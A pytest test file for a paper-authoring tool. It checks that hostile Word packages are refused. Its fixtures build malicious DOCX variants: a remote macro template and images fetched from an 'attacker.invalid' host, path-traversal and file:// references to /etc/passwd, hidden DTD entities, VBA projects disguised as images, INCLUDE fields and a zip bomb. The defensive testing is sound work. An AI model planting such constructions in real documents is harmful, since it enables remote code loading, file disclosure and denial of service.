"""A house style's reference.docx, and a DOCX given to `pcd import`, are read by one checked
reader (authoring/docxsafe.py): hostile packages are refused with PCD063 (or exit 2 for an
import) by every command that uses them, and no paper carries the reference's body or an
outside relationship."""

from __future__ import annotations

import io
import shutil
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from docx import Document
from docx.oxml import parse_xml
from lxml import etree

from authoring import cli
from tests.conftest import ROOT, minimal_text, mutate, run_pcd
from tests.importer.papers import docx_bytes, word_1843
from tests.render.tools import need

REFERENCE = ROOT / "templates" / "mopac" / "reference.docx"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS = "{http://schemas.openxmlformats.org/package/2006/relationships}"
W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
DOCUMENT_RELS = "word/_rels/document.xml.rels"
STYLES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
# What a VBA project (an OLE compound file) carries, whatever its part is called.
VBA_PROJECT = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "VBA".encode("utf-16-le")
               + b"\0" * 60 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 400)


# -- packages -------------------------------------------------------------------------------------

def png() -> bytes:
    """A real one-pixel PNG."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\xff\0\0")) + chunk(b"IEND", b""))


def rezip(data: bytes, change=None, add: dict | None = None) -> bytes:
    """The package with its parts passed through `change(name, bytes) -> bytes` and parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            part = src.read(info)
            dst.writestr(info.filename, change(info.filename, part) if change else part)
        for name, part in (add or {}).items():
            dst.writestr(name, part)
    return out.getvalue()


def edits(*changes: tuple[str, bytes, bytes]):
    """A `change` replacing, in each named part, one piece that must be there."""
    def change(name: str, data: bytes) -> bytes:
        for part, old, new in changes:
            if name == part:
                assert old in data, (part, old)
                data = data.replace(old, new, 1)
        return data
    return change


def relation(kind: str, target: str, mode: str = "", rid: str = "rId99") -> tuple[str, bytes, bytes]:
    """An edit adding a relationship to the main document's, written as given (`mode` raw)."""
    attr = f' TargetMode="{mode}"' if mode else ""
    return (DOCUMENT_RELS, b"</Relationships>",
            f'<Relationship Id="{rid}" Type="{REL}{kind}" Target="{target}"{attr}/></Relationships>'.encode())


def typed(xml: str) -> tuple[str, bytes, bytes]:
    return ("[Content_Types].xml", b"</Types>", xml.encode() + b"</Types>")


PNG = typed('<Default Extension="png" ContentType="image/png"/>')


def reference() -> bytes:
    return REFERENCE.read_bytes()


def part_of(name: str) -> bytes:
    with zipfile.ZipFile(REFERENCE) as zf:
        return zf.read(name)


def with_field(where: str, instruction: list[str]) -> bytes:
    """The shipped reference with a Word field in its body or footer, its instruction split over
    runs the way Word writes it."""
    doc = Document(str(REFERENCE))
    par = doc.sections[0].footer.paragraphs[0] if where == "footer" else doc.add_paragraph()
    runs = ['<w:r><w:fldChar w:fldCharType="begin"/></w:r>',
            *(f'<w:r><w:instrText xml:space="preserve">{t}</w:instrText></w:r>' for t in instruction),
            '<w:r><w:fldChar w:fldCharType="end"/></w:r>']
    for run in runs:
        par._p.append(parse_xml(run.replace("<w:r>", f"<w:r {W_NS}>", 1)))
    return docx_bytes(doc)


def with_header_xml(xml: str) -> bytes:
    doc = Document(str(REFERENCE))
    doc.sections[0].header.paragraphs[0]._p.append(parse_xml(xml))
    return docx_bytes(doc)


def utf16_with_dtd(name: str, data: bytes) -> bytes:
    if name != "word/fontTable.xml":
        return data
    text = data.decode("utf-8").replace("encoding='UTF-8'", "encoding='UTF-16'", 1)
    head, rest = text.split("?>", 1)
    return (head + "?><!DOCTYPE w:fonts [<!ENTITY e 'x'>]>" + rest).encode("utf-16")


def styles_named_elsewhere() -> bytes:
    """word/styles.xml is harmless, but the relationship names word/look.xml as the styles."""
    look = part_of("word/styles.xml").replace(b'<w:sz w:val="52"/>', b'<w:sz w:val="2000"/>', 1)
    return rezip(reference(), edits(
        (DOCUMENT_RELS, b'Target="styles.xml"', b'Target="look.xml"'),
        typed(f'<Override PartName="/word/look.xml" ContentType="{STYLES_TYPE}"/>')),
        add={"word/look.xml": look})


def main_named_elsewhere() -> bytes:
    """word/document.xml is harmless, but the package names word/main.xml as the document."""
    main = part_of("word/document.xml").replace(b'w:w="11906"', b'w:w="100"', 1)
    return rezip(reference(), edits(
        ("_rels/.rels", b'Target="word/document.xml"', b'Target="word/main.xml"'),
        typed(f'<Override PartName="/word/main.xml" ContentType="{MAIN_TYPE}"/>')),
        add={"word/main.xml": main, "word/_rels/main.xml.rels": part_of(DOCUMENT_RELS)})


def without_heading_1() -> bytes:
    return rezip(reference(), edits(("word/styles.xml", b'w:styleId="Heading1"><w:name w:val="heading 1"/>',
                                     b'w:styleId="Kop1"><w:name w:val="kop 1"/>')))


HOSTILE = {
    # TargetMode is compared after parsing: a character reference is the same word.
    "template-by-character-reference": (lambda: rezip(reference(), edits(relation(
        "attachedTemplate", "http://attacker.invalid/t.dotm", "Ext&#101;rnal"))),
        "attachedTemplate 'http://attacker.invalid/t.dotm'"),
    "image-by-character-reference": (lambda: rezip(reference(), edits(relation(
        "image", "http://attacker.invalid/p.png", "Ext&#101;rnal"))),
        "loads an external image from 'http://attacker.invalid/p.png'"),
    "mode-in-lower-case": (lambda: rezip(reference(), edits(relation(
        "image", "http://attacker.invalid/p.png", "external"))),
        "a relationship in mode 'external', which is neither Internal nor External"),
    "target-climbing-out": (lambda: rezip(reference(), edits(relation("image", "../../../../etc/passwd"))),
                            "names '../../../../etc/passwd', which is not a part of the package"),
    "target-a-file-url": (lambda: rezip(reference(), edits(relation("image", "file:///etc/passwd"))),
                          "names 'file:///etc/passwd', which is not a part of the package"),
    "dtd-after-4-kib": (lambda: rezip(reference(), edits(("word/settings.xml", b"?>", b"?><!--" + b"x" * 5000
                                                          + b"--><!DOCTYPE w:settings [<!ENTITY e 'x'>]>"))),
                        "part word/settings.xml declares a DTD or entities"),
    "dtd-in-utf-16": (lambda: rezip(reference(), utf16_with_dtd),
                      "part word/fontTable.xml declares a DTD or entities"),
    "vba-project-renamed": (lambda: rezip(reference(), edits(relation("image", "media/logo.png"), PNG),
                                          add={"word/media/logo.png": VBA_PROJECT}),
        "contains macros (a .docm or vbaProject.bin): save it as a plain .docx (part "
        "word/media/logo.png is a VBA project)"),
    "vba-relationship": (lambda: rezip(reference(), edits(
        ("word/_rels/document.xml.rels", b"</Relationships>",
         b'<Relationship Id="rId99" Type="http://schemas.microsoft.com/office/2006/relationships/'
         b'vbaProject" Target="media/logo.png"/></Relationships>'),
        PNG), add={"word/media/logo.png": png()}),
        "contains macros"),
    "vba-type-by-character-reference": (lambda: rezip(reference(), edits(
        relation("image", "media/logo.png"),
        typed('<Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vb&#97;Project"/>')),
        add={"word/media/logo.png": png()}), "contains macros"),
    "ole-object-renamed": (lambda: rezip(reference(), edits(relation("image", "media/logo.png"), PNG),
                                         add={"word/media/logo.png": VBA_PROJECT[:512] + b"\0" * 512}),
                           "part word/media/logo.png is an embedded object (OLE)"),
    "font-in-the-styles-the-package-names": (styles_named_elsewhere,
                                             "word/look.xml: style 'TitleChar' sets a font size of 1000 pt"),
    "page-in-the-document-the-package-names": (main_named_elsewhere,
                                               "word/main.xml: the page size is 0.07 in"),
    "includepicture-in-footer": (lambda: with_field("footer", ["INCLUDE", 'PICTURE "http://attacker.invalid/p.png" \\d']),
                                 "has a field that loads another file (INCLUDE…)"),
    "includetext-in-body": (lambda: with_field("body", ['INCLUDETEXT "/etc/passwd"']),
                            "has a field that loads another file (INCLUDE…)"),
    "vml-address-in-header": (lambda: with_header_xml(
        '<w:r xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
        'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
        '<w:pict><v:shape><v:imagedata o:href="file:///etc/passwd"/></v:shape></w:pict></w:r>'),
        "names an outside address ('file:///etc/passwd')"),
    "no-heading-1": (without_heading_1, "word/styles.xml: there is no 'Heading 1' style, which papers use"),
    "a-folder": (None, "the reference document is not a file"),
}


def style_with(tmp_path: Path, data: bytes | None) -> Path:
    """A style `acme` extending MOPAC with this reference document (a folder if None), and a
    spec using it; returns the reference document's path."""
    folder = tmp_path / "styles" / "acme"
    folder.mkdir(parents=True)
    (folder / "style.yaml").write_text("extends: mopac\n")
    if data is None:
        (folder / "reference.docx").mkdir()
    else:
        (folder / "reference.docx").write_bytes(data)
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "2001.yaml").write_text("house_style: acme\n" + minimal_text())
    return folder / "reference.docx"


def run(capsys, *args: str) -> tuple[int, str]:
    code = cli.main(list(args))
    captured = capsys.readouterr()
    return code, captured.out + captured.err


# -- pcd build ------------------------------------------------------------------------------------

@pytest.mark.parametrize("case", HOSTILE)
def test_build_refuses_a_hostile_reference_document(tmp_path, capsys, case):
    make, message = HOSTILE[case]
    ref = style_with(tmp_path, make() if make else None)
    out = tmp_path / "out"
    code, text = run(capsys, "build", "--style-dir", str(tmp_path / "styles"),
                     str(tmp_path / "specs" / "2001.yaml"), "-o", str(out))
    assert code == 1, text
    assert f"{ref}: error[PCD063] " in text and message in text, text
    assert "internal error" not in text and not out.exists()


# -- pcd site --pdf -------------------------------------------------------------------------------

SITE_PDF = {
    "local-file-image": (lambda: rezip(reference(), edits(relation("image", "file:///etc/passwd", "External"))),
                         "loads an external image from 'file:///etc/passwd'"),
    "remote-image": (lambda: rezip(reference(), edits(relation("image", "http://attacker.invalid/p.png", "External"))),
                     "loads an external image from 'http://attacker.invalid/p.png'"),
    "zip-bomb": (lambda: rezip(reference(), edits(relation("image", "media/logo.png"),
                                                  PNG),
                               add={"word/media/logo.png": png() + b"\0" * (15 * 1024 * 1024)}),
                 "times: refused as a zip bomb"),
}


@pytest.mark.parametrize("case", SITE_PDF)
def test_site_pdf_refuses_a_hostile_reference_document(tmp_path, capsys, case):
    need(shutil.which("soffice"), "LibreOffice")
    make, message = SITE_PDF[case]
    # The site's own style (MOPAC, found first in --style-dir) with the hostile reference.
    folder = tmp_path / "styles" / "mopac"
    shutil.copytree(ROOT / "templates" / "mopac", folder)
    ref = folder / "reference.docx"
    ref.write_bytes(make())
    (tmp_path / "specs").mkdir()
    (tmp_path / "specs" / "2001.yaml").write_text(minimal_text())
    code, text = run(capsys, "site", str(tmp_path / "specs"), "-o", str(tmp_path / "site"), "--pdf",
                     "--style-dir", str(tmp_path / "styles"), "--jobs", "1", "--quiet")
    assert code == 1, text
    assert f"{ref}: error[PCD063] " in text and message in text, text
    assert "internal error" not in text and not (tmp_path / "site").exists()


# -- what a built paper carries -------------------------------------------------------------------

def test_the_reference_body_never_reaches_a_paper(tmp_path, capsys):
    """A reference document with text and a picture in its body: the paper starts with its own
    heading, keeps the reference's page setup and styles, and carries neither, nor any outside
    relationship but the links the spec makes."""
    doc = Document(str(REFERENCE))
    doc.add_paragraph("REFERENCE BODY MARKER")
    doc.add_picture(io.BytesIO(png()))
    style_with(tmp_path, docx_bytes(doc))
    spec = tmp_path / "specs" / "2001.yaml"
    spec.write_text(mutate(spec.read_text(), "[The pilot tests a new approach.]",
                           '["The pilot tests [a new approach](https://www.example.gov.uk/pilot)."]'))
    code, text = run(capsys, "build", "--style-dir", str(tmp_path / "styles"), str(spec),
                     "-o", str(tmp_path / "out"))
    assert code == 0, text
    built = tmp_path / "out" / "2001.docx"
    paper = Document(str(built))
    assert paper.paragraphs[0].style.name == "Heading 1"
    assert paper.sections[0].page_width == Document(str(REFERENCE)).sections[0].page_width
    with zipfile.ZipFile(built) as zf:
        assert b"MARKER" not in zf.read("word/document.xml")
        assert not [n for n in zf.namelist() if n.startswith("word/media/")]
        outside = [(el.get("Type"), el.get("Target"))
                   for name in zf.namelist() if name.endswith(".rels")
                   for el in etree.fromstring(zf.read(name)).iter(f"{RELS}Relationship")
                   if el.get("TargetMode") == "External"]
    assert outside == [(REL + "hyperlink", "https://www.example.gov.uk/pilot")]


# -- pcd import: the same reader ------------------------------------------------------------------

def imported(change=None, add: dict | None = None):
    return lambda: rezip(docx_bytes(word_1843()), change, add)


IMPORT = {
    "dtd-after-4-kib": (imported(edits(("word/settings.xml", b"?>", b"?><!--" + b"x" * 5000
                                        + b"--><!DOCTYPE w:settings [<!ENTITY e 'x'>]>"))),
                        "part word/settings.xml declares a DTD or entities"),
    "dtd-in-utf-16": (imported(utf16_with_dtd), "part word/fontTable.xml declares a DTD or entities"),
    "vba-project-renamed": (imported(edits(relation("image", "media/logo.png"), PNG),
                                     add={"word/media/logo.png": VBA_PROJECT}),
                            "the document contains macros"),
    "vba-type-by-character-reference": (imported(edits(
        relation("image", "media/logo.png"),
        typed('<Override PartName="/word/media/logo.png" ContentType="application/vnd.ms-office.vb&#97;Project"/>')),
        add={"word/media/logo.png": png()}), "the document contains macros"),
}


@pytest.mark.parametrize("case", IMPORT)
def test_import_refuses_what_the_shared_reader_refuses(tmp_path, case):
    make, message = IMPORT[case]
    src = tmp_path / "paper.docx"
    src.write_bytes(make())
    result = run_pcd("import", str(src), "-o", str(tmp_path / "out.yaml"))
    assert result.returncode == 2, result.stdout + result.stderr
    assert result.stderr.startswith(f"{src}: error: ") and message in result.stderr, result.stderr
    assert not (tmp_path / "out.yaml").exists()
